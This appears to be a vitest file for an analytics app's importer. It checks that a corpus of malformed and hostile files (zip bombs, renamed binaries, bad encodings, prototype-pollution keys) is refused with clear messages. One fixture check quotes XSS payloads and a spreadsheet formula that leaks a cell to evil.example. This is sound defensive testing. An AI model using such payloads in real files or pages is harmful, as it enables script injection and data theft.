/**
 * The bad-input corpus, end to end through the real pipeline and the real importers: every file in
 * tests/fixtures/bad/ (written by make-bad-fixtures.mjs and make-hostile-fixtures.mjs) has one row
 * here saying what it must produce. A file added to the folder without a row fails the first test.
 *
 * What counts as a good answer to a bad file: a message that names the file (first thing in it, so
 * a list of outcomes reads well) and says what is wrong and what to do; for a file that is
 * recognised but has bad rows, issues that carry the line number. Snapshot files go through the
 * snapshot worker's open-and-apply path against a stored workspace, which must stay byte-identical.
 * tests/e2e/reliability.e2e.ts drops the import files on the real page and compares the database.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { strToU8, zipSync } from 'fflate';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { dayFromYMD } from '../domain/days';
import type { ParsedFile } from '../domain/model';
import type { ChorusDatabase } from '../db/database';
import { dispose, freshDatabase } from '../db/test-support';
import { exportAllTables, replaceAllTables } from '../db/wipe';
import type { SnapshotFailureKind } from '../snapshot/messages';
import { parseSnapshot } from '../snapshot/parse';
import type { SnapshotRequest, SnapshotResponse } from '../snapshot/snapshot-protocol';
import { createSnapshotHandler } from '../snapshot/snapshot.worker';
import { smallWorkspace } from '../snapshot/test-workspaces';
import { importers } from './index';
import { MAX_FILE_BYTES, MAX_LINE_CHARS, MAX_ROWS_PER_TABLE, MAX_ZIP_ENTRIES } from './limits';
import { readFiles, type FileOutcome } from './pipeline';

const DIRECTORY = new URL('../../../tests/fixtures/bad/', import.meta.url);
const NOW = new Date(2026, 10, 26, 12, 0, 0);
const read = (name: string) => new Uint8Array(readFileSync(new URL(name, DIRECTORY)));

type LineIssue = [line: number | undefined, message: RegExp];

type Expectation =
	/** Refused: one message, which starts with the file's name. */
	| { kind: 'error'; message: RegExp }
	/** Readable but not a known layout: offered the mapping step with the columns as read. */
	| { kind: 'unrecognised'; columns: string; issues?: LineIssue[] }
	/** Recognised: the rows that were wrong come back as issues on their lines; `check` looks at what was kept. */
	| { kind: 'parsed'; issues: LineIssue[]; check?: (file: ParsedFile) => void }
	/** A snapshot file: refused by the snapshot reader with this kind and message. */
	| { kind: 'snapshot'; failure: SnapshotFailureKind; message: RegExp; maxInflated?: number };

const CORPUS: Record<string, Expectation> = {
	// --- make-bad-fixtures.mjs
	'empty.csv': { kind: 'error', message: /^empty\.csv is empty \(0 bytes\)\. Download the export again\.$/ },
	'binary.csv': { kind: 'error', message: /^binary\.csv looks like a binary file .* contains NUL bytes \(the first at byte \d+\)/ },
	'image-renamed.csv': { kind: 'error', message: /^image-renamed\.csv looks like a PNG image saved with a \.csv name/ },
	'page-saved-as.csv': { kind: 'error', message: /^page-saved-as\.csv looks like a web page \(HTML\).*The download probably failed/ },
	'malformed-quoting.csv': {
		kind: 'parsed',
		issues: [
			[3, /^A quoted field is never closed \(malformed quoting\)/],
			[3, /^“6 2024-01-03,7 2024-01-04,8” in column “Views” is not a number/]
		],
		check: (file) => expect(file.series.find((entry) => entry.metric === 'views')?.values).toEqual([5])
	},
	'headers-only.csv': { kind: 'parsed', issues: [[1, /^headers-only\.csv has column names \(line 1\) but no data rows/]] },
	'unknown-layout.csv': { kind: 'unrecognised', columns: 'Day, Sessions, Bounce count, Newsletter signups' },
	'mixed-delimiters.csv': { kind: 'error', message: /^mixed-delimiters\.csv mixes separators: line 1 is separated by “,”, but line 2/ },
	'duplicate-headers.csv': {
		kind: 'parsed',
		issues: [[1, /^duplicate-headers\.csv names a column more than once on line 1: “Views” \(columns 2 and 3\)\. Chorus read the first/]],
		check: (file) => expect(file.series.find((entry) => entry.metric === 'views')?.values).toEqual([10, 12])
	},
	'missing-headers.csv': { kind: 'error', message: /^missing-headers\.csv has no header row: line 1 already holds data/ },
	'out-of-range-dates.csv': { kind: 'unrecognised', columns: 'Day, Sessions' },
	'comma-decimal.csv': { kind: 'unrecognised', columns: 'Datum, Sitzungen, Quote' },
	'gb18030-wechat.csv': {
		kind: 'parsed',
		issues: [],
		check: (file) => {
			expect(file.encoding).toBe('gb18030');
			expect(file.series.find((entry) => entry.metric === 'followers_gained')?.values).toEqual([12, 8, 15]);
		}
	},
	'utf16le-sep.csv': { kind: 'parsed', issues: [], check: (file) => expect([file.encoding, file.rowCount]).toEqual(['utf-16le', 3]) },
	'truncated.zip': { kind: 'error', message: /^truncated\.zip: the zip is incomplete or damaged — download it again\.$/ },
	'corrupt.zip': { kind: 'error', message: /^corrupt\.zip contains nothing Chorus can import: corrupt\.zip\/Totals\.csv is damaged inside the zip/ },
	'zip-bomb.zip': { kind: 'error', message: /^zip-bomb\.zip: Table data 1\.csv would expand \d+× .*this looks like a zip bomb/ },
	'nested-3-deep.zip': { kind: 'error', message: /^nested-3-deep\.zip contains nothing Chorus can import: .*level3\.zip is a zip inside a zip inside a zip/ },
	'no-sheets.xlsx': { kind: 'error', message: /^no-sheets\.xlsx is a workbook with no sheets/ },
	'encrypted.xlsx': { kind: 'error', message: /^encrypted\.xlsx is password-protected \(encrypted\).*remove the password/ },

	// --- make-hostile-fixtures.mjs: other kinds of file
	'jpeg-renamed.csv': { kind: 'error', message: /^jpeg-renamed\.csv looks like a JPEG image saved with a \.csv name/ },
	'pdf-renamed.csv': { kind: 'error', message: /^pdf-renamed\.csv looks like a PDF document saved with a \.csv name/ },
	'gzip-renamed.csv': { kind: 'error', message: /^gzip-renamed\.csv looks like a gzip-compressed file .*Chorus opens \.zip files only/ },
	'json-renamed.csv': { kind: 'error', message: /^json-renamed\.csv looks like a JSON file saved with a \.csv name/ },
	'xml-renamed.csv': { kind: 'error', message: /^xml-renamed\.csv looks like an XML document saved with a \.csv name/ },
	'word-renamed.xlsx': { kind: 'error', message: /^word-renamed\.xlsx looks like a Word document saved with a \.xlsx name/ },
	'control-chars.csv': { kind: 'error', message: /^control-chars\.csv looks like a binary file .*control characters/ },
	'blank-lines-only.csv': { kind: 'error', message: /^blank-lines-only\.csv contains only blank lines or spaces, no data\./ },

	// encodings
	'windows-1252.csv': { kind: 'unrecognised', columns: 'Día, Sesiones, Año' },
	'utf16be-no-bom.csv': { kind: 'unrecognised', columns: 'Day, Sessions, Signups' },
	'utf8-bom-invalid-bytes.csv': {
		kind: 'unrecognised',
		columns: 'Day, Sesi\uFFFDn, Notes',
		issues: [[1, /^utf8-bom-invalid-bytes\.csv is marked as UTF-8 text, but 2 characters in it are not valid UTF-8 \(the first on line 1\)/]]
	},

	// zips
	'empty.zip': { kind: 'error', message: /^empty\.zip is an empty zip: there are no files inside\./ },
	'encrypted-entry.zip': { kind: 'error', message: /^encrypted-entry\.zip contains nothing Chorus can import: encrypted-entry\.zip\/Totals\.csv is password-protected/ },
	'unsupported-method.zip': { kind: 'error', message: /^unsupported-method\.zip contains nothing Chorus can import: .*Totals\.csv is compressed with LZMA/ },
	'lying-size.zip': { kind: 'error', message: /^lying-size\.zip: Totals\.csv unpacks to more than the 12 bytes its header declares/ },
	'crc-mismatch.zip': { kind: 'error', message: /^crc-mismatch\.zip contains nothing Chorus can import: .*Totals\.csv is damaged inside the zip \(checksum mismatch\)/ },
	'overlapping-entries.zip': { kind: 'error', message: /^overlapping-entries\.zip: its entries overlap each other/ },
	'junk-only.zip': { kind: 'error', message: /^junk-only\.zip contains no files or sheets with data\./ },
	'image-in-zip.zip': { kind: 'error', message: /^image-in-zip\.zip contains nothing Chorus can import: image-in-zip\.zip\/Totals\.csv looks like a PNG image/ },
	'nested-bomb.zip': { kind: 'error', message: /^nested-bomb\.zip\/inner\.zip: Table data\.csv would expand \d+× .*zip bomb/ },

	// workbooks
	'empty-sheets.xlsx': { kind: 'error', message: /^empty-sheets\.xlsx has no data: every sheet is empty\./ },
	'xlsx-bomb.xlsx': { kind: 'error', message: /^xlsx-bomb\.xlsx: xl\/worksheets\/sheet1\.xml would expand \d+× .*zip bomb/ },
	'truncated.xlsx': { kind: 'error', message: /^truncated\.xlsx: the zip is incomplete or damaged — download it again\.$/ },
	'word-as.xls': { kind: 'error', message: /^word-as\.xls is an Office file but not an Excel workbook/ },
	'x-ids-as-numbers.xlsx': {
		kind: 'parsed',
		issues: [[2, /^Row skipped: the post id “1\.4657122300544328E\+18” was turned into scientific notation by a spreadsheet program/]],
		// the id kept as text survives; the one Excel made a number is not stored under a wrong id
		check: (file) => expect(file.posts.map((post) => post.postId)).toEqual(['1465712230054432769'])
	},

	// hostile values in a recognised layout
	'x-impossible-dates.csv': {
		kind: 'parsed',
		issues: [
			[2, /^Row skipped: “2024-02-30” in column “Date” is not a date\.$/],
			[3, /^Row skipped: “2024-13-01” in column “Date” is not a date\.$/],
			[4, /^Row skipped: “2023-02-29” in column “Date” is not a date\.$/]
		],
		check: (file) => expect(file.series.find((entry) => entry.metric === 'impressions')?.days).toEqual([dayFromYMD(2024, 3, 1)])
	},
	'x-dates-out-of-range.csv': {
		kind: 'parsed',
		issues: [
			[2, /^Row skipped: “1899-12-31” in column “Date” is before 2000-01-01/],
			[3, /^Row skipped: “1970-01-01” in column “Date” is before 2000-01-01/],
			[4, /^Row skipped: “2099-01-01” in column “Date” is after 2027-12-31, and analytics cannot cover days that have not happened/],
			[5, /^Row skipped: “0100-01-01” in column “Date” is before 2000-01-01/]
		],
		check: (file) => {
			const impressions = file.series.find((entry) => entry.metric === 'impressions')!;
			expect([impressions.days, impressions.values]).toEqual([[dayFromYMD(2024, 3, 1)], [104]]);
			expect(file.coversUntil).toBe(dayFromYMD(2024, 3, 1));
		}
	},
	'x-locale-numbers.csv': {
		kind: 'parsed',
		issues: [[4, /^“3\.456,5” in column “impressions” is not a number; that value was left empty\.$/]],
		check: (file) => expect(file.series.find((entry) => entry.metric === 'impressions')?.values).toEqual([1234, 2345.5, 4567.25])
	},
	'x-negative-numbers.csv': {
		kind: 'parsed',
		issues: [[3, /^“−0\.25” in column “engagement rate” is negative, which engagement rate cannot be; that value was left empty\.$/]],
		// a day's negative impressions is a platform's correction, kept as written
		check: (file) => expect(file.series.find((entry) => entry.metric === 'impressions')?.values).toEqual([-5, 40, 41])
	},
	'x-huge-numbers.csv': {
		kind: 'parsed',
		issues: [
			[2, /^“99999999999999999999” in column “impressions” is too large to be a real impressions figure \(more than 9,007,199,254,740,991\)/],
			[3, /^“1e400” in column “impressions” is not a number/],
			[4, /^“9007199254740993” in column “impressions” is too large/]
		],
		check: (file) => expect(file.series.find((entry) => entry.metric === 'impressions')?.values).toEqual([40])
	},
	'x-19-digit-ids.csv': {
		kind: 'parsed',
		issues: [
			[4, /^Row skipped: the post id “1\.46571E\+18” was turned into scientific notation/],
			[5, /^Row skipped: “1465712230054432770\.0” is not a post id\.$/]
		],
		// ids stay strings, digit for digit, even past 2^63 - 1
		check: (file) => expect(file.posts.map((post) => post.postId)).toEqual(['1465712230054432768', '9223372036854775807'])
	},
	'x-headers-only.csv': { kind: 'parsed', issues: [[1, /^x-headers-only\.csv has column names \(line 1\) but no data rows/]] },
	'x-stray-quote.csv': {
		kind: 'parsed',
		issues: [
			[3, /^Malformed quoting: a quote appears inside a field that is not quoted properly\.$/],
			[3, /^“11"x,10,0\.01,1,1,5,1,1,0,1,0,0,0,1,0,0,…” in column “impressions” is not a number/]
		]
	},
	'x-hostile-texts.csv': {
		kind: 'parsed',
		issues: [],
		// markup, script and formula payloads are data: kept exactly as written, never interpreted here
		check: (file) => {
			expect(file.posts).toHaveLength(9);
			expect(file.posts[0].text).toBe('<img src=x onerror="window.__pwned=1">');
			expect(file.posts[1].text).toBe('<script>window.__pwned=1</script>');
			expect(file.posts[5].text).toBe('=HYPERLINK("http://evil.example/?leak="&A1,"Click")');
		}
	},

	// snapshots (the snapshot reader's own bad files are in tests/fixtures/snapshots/, checked below too)
	'snapshot-constructor-key.chorus.json': {
		kind: 'snapshot',
		failure: 'unsafe',
		message: /^"snapshot-constructor-key\.chorus\.json" contains the key "constructor" \(at content\.constructor\)/
	},
	'snapshot-deep-nesting.chorus.json': { kind: 'snapshot', failure: 'unsafe', message: /^"snapshot-deep-nesting\.chorus\.json" is nested far deeper than any Chorus snapshot/ },
	'snapshot-gzip-bomb.chorus.json.gz': {
		kind: 'snapshot',
		failure: 'too-large',
		message: /^"snapshot-gzip-bomb\.chorus\.json\.gz" unpacks to more than 4 MB/,
		maxInflated: 4 * 1024 * 1024
	},
	'snapshot-not-an-object.chorus.json': { kind: 'snapshot', failure: 'not-snapshot', message: /^"snapshot-not-an-object\.chorus\.json" is JSON but not a Chorus snapshot/ }
};

const SNAPSHOT_SUITE: Record<string, [SnapshotFailureKind, RegExp]> = {
	'bad-checksum.chorus.json.gz': ['checksum', /^"bad-checksum\.chorus\.json\.gz" was changed or damaged after it was saved/],
	'bad-future-version.chorus.json.gz': ['newer-version', /^"bad-future-version\.chorus\.json\.gz" was made by a newer Chorus \(version 42\.0\.0, snapshot format 99\)/],
	'bad-not-gzip.chorus.json.gz': ['not-snapshot', /^"bad-not-gzip\.chorus\.json\.gz" is not a Chorus snapshot/],
	'bad-not-json.chorus.json.gz': ['damaged', /^"bad-not-json\.chorus\.json\.gz" is not readable JSON/],
	'bad-proto-key.chorus.json.gz': ['unsafe', /^"bad-proto-key\.chorus\.json\.gz" contains the key "__proto__"/],
	'bad-truncated.chorus.json.gz': ['damaged', /^"bad-truncated\.chorus\.json\.gz" is damaged: its compressed data is cut off or corrupt/],
	'bad-wrong-types.chorus.json.gz': ['invalid', /^"bad-wrong-types\.chorus\.json\.gz" does not have the shape of a Chorus snapshot \(content\.accounts\[1\]\.segments/]
};

async function readOne(name: string, bytes: Uint8Array): Promise<FileOutcome> {
	const outcomes = await readFiles([{ name, bytes }], { registry: importers, now: NOW });
	expect(outcomes).toHaveLength(1);
	return outcomes[0];
}

function expectIssues(actual: { line?: number; message: string }[], expected: LineIssue[]) {
	expect(actual.map((issue) => issue.line)).toEqual(expected.map(([line]) => line));
	actual.forEach((issue, index) => expect(issue.message).toMatch(expected[index][1]));
}

describe('the bad-input corpus (tests/fixtures/bad)', () => {
	it('has an expectation for every file in the folder, and at least 40 files', () => {
		const files = readdirSync(DIRECTORY)
			.filter((name) => !name.endsWith('.mjs'))
			.sort();
		expect(files).toEqual(Object.keys(CORPUS).sort());
		expect(files.length).toBeGreaterThanOrEqual(40);
	});

	const importFiles = Object.entries(CORPUS).filter(([, expectation]) => expectation.kind !== 'snapshot');
	it.each(importFiles)('%s', async (name, expectation) => {
		const outcome = await readOne(name, read(name));
		expect(outcome.name).toBe(name);
		if (expectation.kind === 'error') {
			expect(outcome.outcome, JSON.stringify(outcome).slice(0, 400)).toBe('error');
			if (outcome.outcome !== 'error') return;
			expect(outcome.message).toMatch(expectation.message);
			// what to do is part of the message: every refusal ends with advice, as a sentence
			expect(outcome.message).toMatch(/\.$/);
		} else if (expectation.kind === 'unrecognised') {
			expect(outcome.outcome, JSON.stringify(outcome).slice(0, 400)).toBe('unrecognised');
			if (outcome.outcome !== 'unrecognised') return;
			expect(outcome.message).toBe(
				`Chorus does not recognise the layout of ${name} (columns: ${expectation.columns}). Map its columns to metrics to import it; the mapping is remembered for files like it.`
			);
			expectIssues(outcome.tables[0].issues, expectation.issues ?? []);
		} else if (expectation.kind === 'parsed') {
			expect(outcome.outcome, JSON.stringify(outcome).slice(0, 400)).toBe('parsed');
			if (outcome.outcome !== 'parsed') return;
			expect(outcome.parsed).toHaveLength(1);
			const [file] = outcome.parsed;
			expect(file.fileName.startsWith(name)).toBe(true);
			expectIssues(file.issues, expectation.issues);
			expectation.check?.(file);
		}
	});

	it('keeps messages readable for the person: errors name the file first, no raw stack traces', async () => {
		for (const [name] of importFiles) {
			const outcome = await readOne(name, read(name));
			if (outcome.outcome === 'error') {
				expect(outcome.message.startsWith(name), outcome.message).toBe(true);
				expect(outcome.message).not.toMatch(/\bat \S+ \(|TypeError|undefined|\[object /);
			}
		}
	});
});

describe('bad inputs too large to commit, made at run time', () => {
	it('a 5.5 MB single line is refused, naming the line', async () => {
		const text = `Date,Views\n${'1,'.repeat(2_883_584)}\n`;
		const outcome = await readOne('single-huge-line.csv', strToU8(text));
		expect(outcome.outcome === 'error' && outcome.message).toBe(
			'single-huge-line.csv: line 2 is about 5.5 MB long, more than the 1 MB Chorus accepts for one line. This is not a line-by-line CSV export (line breaks missing, or another kind of file); export the data again as CSV.'
		);
		expect(MAX_LINE_CHARS).toBe(1024 * 1024);
	});

	it('a file over the size limit is refused before a byte of it is read', async () => {
		const outcome = await readOne('huge.csv', new Uint8Array(MAX_FILE_BYTES + 1));
		expect(outcome).toMatchObject({
			name: 'huge.csv',
			size: MAX_FILE_BYTES + 1,
			sha256: '',
			outcome: 'error',
			message: 'huge.csv is 200 MB; Chorus reads files of up to 200 MB. Export a shorter date range, or split the file.'
		});
	});

	it('a text file with more lines than the row limit is refused', async () => {
		const outcome = await readOne('too-many-lines.csv', strToU8(`Date,Views\n${'2024-01-01,1\n'.repeat(MAX_ROWS_PER_TABLE)}`));
		expect(outcome.outcome === 'error' && outcome.message).toBe(
			'too-many-lines.csv has 1,000,001 lines; Chorus reads files of up to 1,000,000 lines. Export a shorter date range, or split the file.'
		);
	});

	it('a zip with more entries than the limit is refused without unpacking any', async () => {
		const entries: Record<string, Uint8Array> = {};
		for (let i = 0; i <= MAX_ZIP_ENTRIES; i++) entries[`f${i}.csv`] = strToU8('x');
		const outcome = await readOne('many.zip', zipSync(entries, { level: 0 }));
		expect(outcome.outcome === 'error' && outcome.message).toBe(
			'many.zip holds 5001 files; Chorus opens zips of up to 5000. Unzip it and import the export files themselves.'
		);
	});
});

/** A stored workspace as comparable text: every record of every table, typed arrays spelled out. */
async function dump(database: ChorusDatabase): Promise<string> {
	const tables = await exportAllTables(database);
	return JSON.stringify(tables, (_key, value) =>
		ArrayBuffer.isView(value) ? Array.from(value as unknown as ArrayLike<number>, (n) => (Number.isNaN(n) ? 'NaN' : n)) : value
	);
}

describe('bad snapshot files: refused by name, and the stored workspace is unchanged', () => {
	let database: ChorusDatabase;
	beforeEach(async () => {
		database = freshDatabase();
		expect((await replaceAllTables(database, smallWorkspace())).ok).toBe(true);
	});
	afterEach(() => dispose(database));

	const cases: [string, URL, SnapshotFailureKind, RegExp, number | undefined][] = [
		...Object.entries(CORPUS).flatMap(([name, expectation]) =>
			expectation.kind === 'snapshot' ? [[name, DIRECTORY, expectation.failure, expectation.message, expectation.maxInflated] as const] : []
		),
		...Object.entries(SNAPSHOT_SUITE).map(
			([name, [failure, message]]) => [name, new URL('../../../tests/fixtures/snapshots/', import.meta.url), failure, message, undefined] as const
		)
	].map(([name, directory, failure, message, maxInflated]) => [name, directory, failure, message, maxInflated]);

	it.each(cases)('%s', async (name, directory, failure, message, maxInflated) => {
		const bytes = new Uint8Array(readFileSync(new URL(name, directory)));
		const parsed = await parseSnapshot(bytes, { fileName: name, ...(maxInflated ? { maxInflated } : {}) });
		expect(parsed.ok).toBe(false);
		if (parsed.ok) return;
		expect(parsed.kind).toBe(failure);
		expect(parsed.message).toMatch(message);
		expect(parsed.message).toMatch(/Nothing was loaded and your workspace is unchanged\.$/);

		if (maxInflated) return; // the worker applies the app's own bound; the unit above checks this one
		const before = await dump(database);
		const handle = createSnapshotHandler({ database: () => database });
		const posted: SnapshotResponse[] = [];
		const run = (request: SnapshotRequest) => handle(request, (response) => posted.push(response));
		await run({ type: 'open', requestId: 1, file: new File([bytes], name), fileName: name, includeTables: false });
		await run({ type: 'apply', requestId: 2, mode: 'replace', resolutions: {} });
		await run({ type: 'apply', requestId: 3, mode: 'merge', resolutions: {} });
		expect(posted.filter((response) => response.type !== 'progress').map((response) => [response.type, 'kind' in response ? response.kind : ''])).toEqual([
			['failed', failure],
			['failed', 'no-snapshot'],
			['failed', 'no-snapshot']
		]);
		expect(await dump(database)).toBe(before);
	});
});
